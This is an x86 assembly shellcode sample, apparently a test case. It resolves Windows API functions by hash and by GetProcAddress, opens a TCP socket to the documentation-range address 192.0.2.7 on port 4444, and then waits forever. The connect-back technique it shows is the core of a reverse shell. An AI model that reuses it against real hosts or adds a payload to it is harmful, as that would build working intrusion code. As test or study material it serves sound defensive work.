# Connects to an address of the documentation range, then waits for ever; functions by name, by way of
# GetProcAddress.
.include "common.inc"
start:
  find_kernel32
  jmp data
after:
  pop edi
  sub esp, 0x200
  push hash_GetProcAddress
  call find_function
  mov esi, eax
  push edi
  call_by_hash LoadLibraryA
  mov ebp, eax
  lea eax, [edi + start_name - texts]
  push eax
  push ebp
  call esi
  push esp
  push 0x0202
  call eax
  lea eax, [edi + socket_name - texts]
  push eax
  push ebp
  call esi
  push 0
  push 0
  push 0
  push 6
  push 1
  push 2
  call eax
  push eax
  lea eax, [edi + connect_name - texts]
  push eax
  push ebp
  call esi
  pop ecx
  push 16
  lea edx, [edi + address - texts]
  push edx
  push ecx
  call eax
  lea eax, [edi + sleep_name - texts]
  push eax
  push ebx
  call esi
  push -1
  call eax
find_function_code
data:
  call after
texts:
  .asciz "ws2_32"
start_name:
  .asciz "WSAStartup"
socket_name:
  .asciz "WSASocketA"
connect_name:
  .asciz "connect"
sleep_name:
  .asciz "Sleep"
address:
  .byte 2, 0, 0x11, 0x5C, 192, 0, 2, 7, 0, 0, 0, 0, 0, 0, 0, 0
